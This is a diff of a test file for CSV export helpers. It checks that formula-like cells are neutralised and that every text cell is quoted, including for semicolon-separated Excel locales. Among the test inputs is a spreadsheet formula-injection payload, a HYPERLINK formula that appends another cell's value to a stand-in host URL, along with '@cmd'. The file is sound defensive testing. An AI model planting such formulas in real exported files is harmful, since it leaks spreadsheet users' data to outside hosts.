@@ -26,14 +26,22 @@ describe('neutraliseFormula', () => {
 describe('csvCell', () => {
   it('neutralises text and quotes what needs quoting', () => {
     expect(csvCell('=HYPERLINK("http://x","y")')).toBe('"\'=HYPERLINK(""http://x"",""y"")"');
-    expect(csvCell('@cmd')).toBe("'@cmd");
+    expect(csvCell('@cmd')).toBe(`"'@cmd"`);
     expect(csvCell('a,b')).toBe('"a,b"');
+  });
+
+  it('quotes every text cell, so a spreadsheet splitting on ";" (vi-VN Excel) cannot find a formula inside one', () => {
+    const cell = csvCell('A;=HYPERLINK("http://x/?"&B2,"Xem")');
+    expect(cell).toBe('"A;=HYPERLINK(""http://x/?""&B2,""Xem"")"');
+    // Quoted, the whole value is one cell whatever the separator: nothing after the `;` starts a cell.
+    expect(cell.startsWith('"') && cell.endsWith('"')).toBe(true);
   });
 
   it('keeps numbers, dates and JSON as they are', () => {
     expect(csvCell(-5)).toBe('-5');
     expect(csvCell(null)).toBe('');
-    expect(csvCell(new Date('2026-01-02T03:04:05Z'))).toBe('2026-01-02T03:04:05.000Z');
+    expect(csvCell(new Date('2026-01-02T03:04:05Z'))).toBe('"2026-01-02T03:04:05.000Z"');
+    expect(csvCell(true)).toBe('true');
     expect(csvCell({ a: '=1' })).toBe('"{""a"":""=1""}"');
   });
 });
@@ -74,7 +82,7 @@ describe('streamCsv', () => {
     });
     expect(r.status).toBe(200);
     expect(r.headers?.get('content-type')).toBe('text/csv; charset=utf-8');
-    expect(r.text).toBe("\uFEFFa,b\r\n'=1,2\r\nx,-3\r\n");
+    expect(r.text).toBe('\uFEFF"a","b"\r\n"\'=1",2\r\n"x",-3\r\n');
   });
 
   it('answers an error on the first page before anything is sent', async () => {
